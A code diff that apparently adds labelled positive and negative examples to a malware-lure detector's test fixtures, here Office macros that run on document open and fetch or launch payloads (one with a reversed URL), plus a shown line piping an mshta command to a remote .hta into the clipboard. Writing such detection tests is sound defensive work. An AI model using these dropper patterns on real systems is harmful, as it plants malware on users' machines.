@@ -2,6 +2,27 @@
 import { type FamilyExamples, fence, sh } from "./example.ts";
 
 export const luresExamples: FamilyExamples = {
+  "T25-macro-dropper": {
+    positive: [
+      {
+        "module/a.bas":
+          'Sub Auto_Open()\n Set h = CreateObject("MSXML2.ServerXMLHTTP.6.0")\n h.Open "GET", StrReverse("a/ved.tsoh//:sptth"), False\n h.send\n CreateObject("WScript.Shell").Run "wscript a.js", 0, False\nEnd Sub\n',
+      },
+      {
+        "a.vba":
+          'Private Sub Workbook_Open()\n Set s = CreateObject("ADODB.Stream")\n s.SaveToFile "a.exe", 2\n Shell ("a.exe")\nEnd Sub\n',
+      },
+      {
+        "b.bas":
+          'Sub AutoOpen()\n URLDownloadToFile 0, u, p, 0, 0\n CreateObject("Shell.Application").ShellExecute p\nEnd Sub\n',
+      },
+    ],
+    negative: [
+      { "a.bas": "Sub Auto_Open()\n Worksheets(1).Activate\nEnd Sub\n" },
+      { "a.bas": 'Sub Fetch()\n Set h = CreateObject("MSXML2.XMLHTTP")\n h.Open "GET", u, False\nEnd Sub\n' },
+      "Macros such as `Auto_Open` run when a document is opened.\n",
+    ],
+  },
   "T05-laid-on-clipboard": {
     positive: [
       sh("echo 'mshta https://ok.lane-check.jp/v.hta' | clip"),
